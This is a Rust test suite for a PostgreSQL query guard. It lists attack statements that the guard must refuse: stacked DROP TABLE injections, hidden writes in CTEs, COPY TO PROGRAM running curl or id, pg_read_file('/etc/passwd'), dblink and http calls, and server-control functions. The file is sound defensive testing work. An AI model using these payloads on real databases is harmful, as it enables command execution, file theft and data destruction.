//! Attacks on PostgreSQL.

use sql::Dialect::Postgres;

use crate::{checked, refused};

#[test]
fn threat_081_only_one_statement_passes() {
    refused(
        Postgres,
        &[
            "SELECT 1; DROP TABLE t",
            "SELECT 1;DROP TABLE t;",
            "SELECT 1; SELECT 2",
            "SELECT 1;;;SELECT 2",
            "SELECT 1 /* ; */ ; /* */ DROP TABLE t",
            "SELECT ';'; DROP TABLE t",
            "SELECT $$;$$; DROP TABLE t",
            "SELECT E'\\'; DELETE FROM t --'; DROP TABLE t",
            "",
            "   ",
            ";",
            "-- nothing",
            "/* nothing */",
        ],
    );
    // One semicolon at the end is none too many.
    assert_eq!(checked(Postgres, "SELECT 1;").text, "SELECT 1");
    assert_eq!(
        checked(Postgres, "SELECT ';DROP TABLE t'").text,
        "SELECT ';DROP TABLE t'"
    );
}

#[test]
fn threat_082_no_transaction_and_no_setting_passes() {
    refused(
        Postgres,
        &[
            "COMMIT; DROP TABLE t; SELECT 1",
            "COMMIT",
            "COMMIT AND CHAIN",
            "ROLLBACK",
            "ROLLBACK TO SAVEPOINT s",
            "END",
            "ABORT",
            "BEGIN",
            "BEGIN READ WRITE",
            "START TRANSACTION READ WRITE",
            "SAVEPOINT s",
            "RELEASE s",
            "PREPARE TRANSACTION 'x'",
            "COMMIT PREPARED 'x'",
            "SET TRANSACTION READ WRITE",
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "SET transaction_read_only = off",
            "SET LOCAL transaction_read_only TO off",
            "SET default_transaction_read_only = 0",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET search_path TO evil, pg_catalog",
            "RESET ALL",
            "RESET transaction_read_only",
            "DISCARD ALL",
            "SET CONSTRAINTS ALL DEFERRED",
            "SHOW ALL",
            "SHOW data_directory",
        ],
    );
}

#[test]
fn threat_083_spelling_does_not_change_the_verdict() {
    refused(
        Postgres,
        &[
            "/* c */ DELETE FROM t",
            "-- x\nDELETE FROM t",
            "/* /* nested */ */ DELETE FROM t",
            "/* SELECT */ UPDATE t SET a = 1",
            "\u{feff}DELETE FROM t",
            "dElEtE FrOm t",
            "DELETE\tFROM\nt",
            "\n\n(DELETE FROM t)",
            "(((SELECT 1; DELETE FROM t)))",
            "EXPLAIN /* */ ANALYZE DELETE FROM t",
            "TABLE t; DELETE FROM t",
            "INSERT INTO t VALUES (1)",
            "INSERT INTO t SELECT 1",
            "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE",
            "TRUNCATE t",
            "SELECT 1 -- x\u{0}\n; DROP TABLE t",
        ],
    );
    // What is no code to the server is none here: the comment is gone, and the string stays a string.
    assert_eq!(
        checked(Postgres, "/* DELETE */ SELECT 1 -- DROP TABLE t").text,
        "SELECT 1"
    );
    assert_eq!(
        checked(Postgres, "((SELECT 'DELETE FROM t'))").text,
        "SELECT 'DELETE FROM t'"
    );
    assert_eq!(checked(Postgres, "/* /* two */ deep */ SELECT 1").text, "SELECT 1");
}

#[test]
fn threat_084_no_write_hides_in_a_with() {
    refused(
        Postgres,
        &[
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            "WITH d AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM d",
            "WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d",
            "WITH d AS (MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM d",
            "WITH a AS (SELECT 1), d AS (DELETE FROM t) SELECT * FROM a",
            "WITH RECURSIVE d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            "WITH d AS MATERIALIZED (DELETE FROM t RETURNING *) SELECT 1",
            "WITH a AS (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) SELECT * FROM a",
            "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) x",
            "SELECT (WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d)",
            "SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d)",
            "SELECT 1 UNION (WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d)",
            "SELECT ARRAY(WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d)",
            "VALUES ((WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d))",
            "SELECT 1 ORDER BY (WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d)",
            "SELECT 1 LIMIT (WITH d AS (DELETE FROM t RETURNING a) SELECT count(*) FROM d)",
            "WITH d AS (DELETE FROM t) INSERT INTO u SELECT 1",
        ],
    );
}

#[test]
fn threat_085_no_table_is_made_and_no_row_locked() {
    refused(
        Postgres,
        &[
            "SELECT * INTO new FROM t",
            "SELECT * INTO TEMP new FROM t",
            "SELECT * INTO UNLOGGED new FROM t",
            "SELECT 1 INTO new UNION SELECT 2",
            "CREATE TABLE new AS SELECT 1",
            "CREATE TEMP TABLE new AS SELECT 1",
            "CREATE MATERIALIZED VIEW v AS SELECT 1",
            "REFRESH MATERIALIZED VIEW v",
            "CREATE VIEW v AS SELECT 1",
            "SELECT * FROM t FOR UPDATE",
            "SELECT * FROM t FOR NO KEY UPDATE",
            "SELECT * FROM t FOR SHARE",
            "SELECT * FROM t FOR KEY SHARE OF t NOWAIT",
            "SELECT * FROM t FOR UPDATE SKIP LOCKED",
            "SELECT * FROM (SELECT * FROM t FOR UPDATE) x",
            "WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x",
            "SELECT 1 WHERE EXISTS (SELECT 1 FROM t FOR SHARE)",
        ],
    );
}

#[test]
fn threat_086_explain_never_runs_what_it_explains() {
    refused(
        Postgres,
        &[
            "EXPLAIN ANALYZE DELETE FROM t",
            "EXPLAIN ANALYZE SELECT 1",
            "EXPLAIN (ANALYZE) SELECT 1",
            "EXPLAIN (ANALYZE, BUFFERS) SELECT f()",
            "EXPLAIN (ANALYZE off, ANALYZE on) SELECT 1",
            "EXPLAIN (ANALYZE false) SELECT 1",
            "EXPLAIN ANALYZE VERBOSE SELECT 1",
            "EXPLAIN (COSTS, ANALYZE 1) SELECT 1",
            "EXPLAIN (\"analyze\") SELECT 1",
            "EXPLAIN (SERIALIZE) SELECT 1",
            "EXPLAIN DELETE FROM t",
            "EXPLAIN CREATE TABLE x AS SELECT 1",
            "EXPLAIN EXECUTE p",
            "EXPLAIN DECLARE c CURSOR FOR SELECT 1",
            "EXPLAIN SELECT * INTO x FROM t",
            "EXPLAIN WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        ],
    );
    crate::passes(
        Postgres,
        &[
            "EXPLAIN SELECT * FROM t",
            "EXPLAIN (VERBOSE, COSTS off, FORMAT json) SELECT 1",
        ],
    );
}

#[test]
fn threat_087_nothing_is_copied() {
    refused(
        Postgres,
        &[
            "COPY t TO PROGRAM 'curl http://x'",
            "COPY t FROM PROGRAM 'id'",
            "COPY (SELECT 1) TO STDOUT",
            "COPY (SELECT 1) TO '/tmp/x'",
            "COPY t FROM STDIN",
            "COPY t FROM '/etc/passwd'",
            "COPY (DELETE FROM t RETURNING *) TO STDOUT",
            "copy t to program 'x' with (format csv)",
        ],
    );
}

#[test]
fn threat_088_no_block_no_call_no_cursor_no_definition() {
    refused(
        Postgres,
        &[
            "DO $$ BEGIN DELETE FROM t; END $$",
            "DO LANGUAGE plpgsql $x$ BEGIN NULL; END $x$",
            "CALL p()",
            "PREPARE p AS DELETE FROM t",
            "PREPARE p AS SELECT 1",
            "EXECUTE p",
            "EXECUTE p(1)",
            "DEALLOCATE p",
            "DECLARE c CURSOR WITH HOLD FOR SELECT 1",
            "DECLARE c CURSOR FOR SELECT 1",
            "FETCH ALL FROM c",
            "MOVE c",
            "CLOSE c",
            "LISTEN x",
            "UNLISTEN *",
            "NOTIFY x, 'y'",
            "LOCK TABLE t",
            "VACUUM t",
            "ANALYZE t",
            "CLUSTER t",
            "REINDEX TABLE t",
            "CHECKPOINT",
            "LOAD 'x'",
            "CREATE EXTENSION dblink",
            "ALTER SYSTEM SET x = 1",
            "ALTER TABLE t ADD c int",
            "ALTER ROLE r SUPERUSER",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "CREATE ROLE r",
            "GRANT ALL ON t TO public",
            "REVOKE ALL ON t FROM public",
            "DROP TABLE t",
            "COMMENT ON TABLE t IS 'x'",
            "SECURITY LABEL ON TABLE t IS 'x'",
            "IMPORT FOREIGN SCHEMA s FROM SERVER f INTO p",
            "CREATE SUBSCRIPTION s CONNECTION '' PUBLICATION p",
            "REASSIGN OWNED BY a TO b",
        ],
    );
}

#[test]
fn threat_089_no_function_reaches_files() {
    refused(
        Postgres,
        &[
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
            "SELECT U&\"\\0070g_read_file\"('/etc/passwd')",
            "SELECT PG_READ_FILE('x')",
            "SELECT pg_read_binary_file('x')",
            "SELECT * FROM pg_ls_dir('/')",
            "SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 2)) AS x(a, b)",
            "SELECT * FROM t, LATERAL pg_stat_file(t.a)",
            "SELECT pg_ls_logdir(), pg_ls_waldir()",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(1, '/tmp/x')",
            "SELECT lo_get(1), lo_put(1, 0, 'x')",
            "SELECT lo_create(1), lo_unlink(1), loread(1, 1), lowrite(1, 'x')",
            "SELECT lo_from_bytea(0, 'x')",
            "SELECT pg_current_logfile()",
            "SELECT public.pg_read_file('x')",
            "SELECT 1 ORDER BY pg_read_file('x')",
            "SELECT count(*) FILTER (WHERE pg_read_file('x') = '') FROM t",
            "SELECT sum(1) OVER (PARTITION BY pg_read_file('x')) FROM t",
            "SELECT sum(1) OVER w FROM t WINDOW w AS (ORDER BY pg_read_file('x'))",
            "SELECT (CASE WHEN true THEN pg_read_file('x') END)",
            "SELECT ARRAY[pg_read_file('x')]",
            "SELECT string_agg(a, pg_read_file('x') ORDER BY a) FROM t",
            "SELECT * FROM t TABLESAMPLE system (pg_read_file('x')::real)",
            "SELECT 1 GROUP BY ROLLUP (pg_read_file('x'))",
            "SELECT json_object('a': pg_read_file('x'))",
            "SELECT * FROM json_table(pg_read_file('x')::jsonb, '$' COLUMNS (a int PATH '$.a')) j",
            "VALUES (pg_read_file('x'))",
            "SELECT * FROM t WHERE a = ANY (ARRAY(SELECT pg_read_file('x')))",
            "SELECT concat(VARIADIC ARRAY[pg_read_file('x')])",
            "SELECT query_to_xml('DELETE FROM t', true, false, '')",
            "SELECT database_to_xml(true, true, 'n')",
            "SELECT table_to_xml('t', true, false, '')",
            "SELECT cursor_to_xml('c', 1, true, false, '')",
            "SELECT ts_stat('SELECT 1')",
            "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')",
            // without parentheses after it a function is called all the same
            "SELECT ('/etc/passwd'::text).pg_read_file",
            "SELECT (a).pg_read_file FROM t",
            "SELECT ((a).b).pg_read_file FROM t",
            "SELECT f.pg_read_file FROM unnest(ARRAY['/etc/passwd']) AS f",
            "SELECT s.t.pg_ls_dir FROM s.t",
            "SELECT 1 FROM t ORDER BY t.lo_unlink",
            "SELECT (a[1]).lo_import FROM t",
            "SELECT (ARRAY['x'])[1].pg_read_file",
        ],
    );
}

#[test]
fn threat_090_no_function_reaches_other_servers() {
    refused(
        Postgres,
        &[
            "SELECT dblink('host=x', 'DROP TABLE t')",
            "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
            "SELECT dblink_exec('x', 'DROP TABLE t')",
            "SELECT dblink_connect('x')",
            "SELECT public.dblink_send_query('a', 'b')",
            "SELECT http_get('http://x')",
            "SELECT http_post('http://x', 'y', 'z')",
            "SELECT http(('GET', 'http://x', NULL, NULL, NULL)::http_request)",
            "SELECT postgres_fdw_get_connections()",
            "SELECT plpython3_call_handler()",
            "SELECT xpath_table('a', 'b', 'c', 'd', 'e')",
            "SELECT crosstab('SELECT 1')",
        ],
    );
}

#[test]
fn threat_091_functions_of_the_server_are_listed_ones() {
    refused(
        Postgres,
        &[
            "SELECT set_config('transaction_read_only', 'off', false)",
            "SELECT pg_catalog.set_config('transaction_read_only', 'off', false)",
            "SELECT a FROM t WHERE set_config('x', 'y', true) = 'y'",
            "SELECT pg_terminate_backend(1)",
            "SELECT pg_cancel_backend(1)",
            "SELECT pg_reload_conf()",
            "SELECT pg_rotate_logfile()",
            "SELECT pg_switch_wal()",
            "SELECT pg_create_restore_point('x')",
            "SELECT pg_promote()",
            "SELECT pg_stat_statements_reset()",
            "SELECT pg_stat_reset()",
            "SELECT pg_stat_reset_shared('bgwriter')",
            "SELECT pg_drop_replication_slot('x')",
            "SELECT pg_create_logical_replication_slot('x', 'y')",
            "SELECT pg_logical_slot_get_changes('x', NULL, NULL)",
            "SELECT pg_logical_emit_message(true, 'x', 'y')",
            "SELECT pg_replication_origin_create('x')",
            "SELECT nextval('s')",
            "SELECT setval('s', 1)",
            "SELECT currval('s'), lastval()",
            "SELECT pg_advisory_lock(1)",
            "SELECT pg_try_advisory_xact_lock(1)",
            "SELECT pg_advisory_unlock_all()",
            "SELECT pg_sleep(1e6)",
            "SELECT pg_sleep_for('1 day'), pg_sleep_until('tomorrow')",
            "SELECT (1e6::float8).pg_sleep",
            "SELECT ('s'::regclass).nextval",
            "SELECT f.setseed FROM generate_series(0, 1) f",
            "SELECT (VALUES (1)).pg_advisory_lock",
            "SELECT ('SELECT 1'::text).ts_stat",
            "SELECT pg_import_system_collations('x')",
            "SELECT pg_notify('x', 'y')",
            "SELECT pg_export_snapshot()",
            "SELECT pg_backup_start('x')",
            "SELECT txid_current(), pg_current_xact_id()",
            "SELECT setseed(0.5)",
            "SELECT current_setting('x')",
            "SELECT binary_upgrade_set_next_pg_type_oid(1)",
            "SELECT pg_nextoid('pg_class', 'oid', 'x')",
            "SELECT brin_summarize_new_values('i')",
            "SELECT gin_clean_pending_list('i')",
            "SELECT pg_catalog.something_that_a_later_version_brings()",
            "SELECT a.b.c.d()",
        ],
    );
    // The server's own cannot be replaced by somebody's of that name; what is not known is for the catalogue to tell.
    let known = checked(
        Postgres,
        "SELECT lower(a), count(*), substring(a, 1, 2), \"left\"(a, 1) FROM t",
    );
    assert_eq!(
        known.text,
        "SELECT pg_catalog.lower(a), pg_catalog.count(*), pg_catalog.\"substring\"(a, 1, 2), pg_catalog.\"left\"(a, 1) FROM t"
    );
    assert!(known.functions.is_empty());
    let foreign = checked(Postgres, "SELECT mine(a), app.mine(b), public.lower(c) FROM t");
    assert_eq!(crate::names(&foreign.functions), ["mine", "app.mine", "public.lower"]);
    // To an older server these are no words of the language.
    let newer = checked(
        Postgres,
        "SELECT JSON_VALUE(a, '$.b'), JSON_ARRAY(1), JSON_SCALAR(2), JSON_ARRAYAGG(a) FROM t",
    );
    for name in ["json_value", "json_array", "json_scalar", "json_arrayagg"] {
        assert!(crate::names(&newer.functions).contains(&name.to_owned()), "{name}");
    }
    // What follows a dot may be one, unless it is one that may be called.
    let columns = checked(
        Postgres,
        "SELECT t.mine, (t).other, s.t.third, t.date, t.time, a.*, alone FROM s.t t, a",
    );
    assert_eq!(crate::names(&columns.functions), ["mine", "other", "third"]);
}

#[test]
fn threat_102_the_text_that_runs_is_the_text_that_was_understood() {
    refused(
        Postgres,
        &[
            "SELEC 1",
            "SELECT 1 FROM",
            "SELECT 'x",
            "SELECT \"x",
            "SELECT $x$ y",
            "/* SELECT 1",
            "SELECT 1 }",
            "SELECT * FROM t WHERE",
            "garbage",
            "\\copy t to x",
            "\\! id",
            "SELECT 1 \\gexec",
            "SELECT 1\u{0}; DROP TABLE t",
        ],
    );
    let cases = [
        ("select  1 -- c\n + /* d */ 2", "SELECT 1 + 2"),
        ("SELECT E'a\\'b\\\\c'", "SELECT E'a''b\\\\c'"),
        ("SELECT U&'\\0041'", "SELECT 'A'"),
        ("SELECT $q$it's$q$", "SELECT 'it''s'"),
        ("SELECT \"Select\" FROM \"T\"", "SELECT \"Select\" FROM \"T\""),
        ("TABLE t", "SELECT * FROM t"),
    ];
    for (written, runs) in cases {
        assert_eq!(checked(Postgres, written).text, runs);
    }
    let deep = format!("SELECT {}1{}", "(1+".repeat(400), ")".repeat(400));
    refused(Postgres, &[&deep]);
}
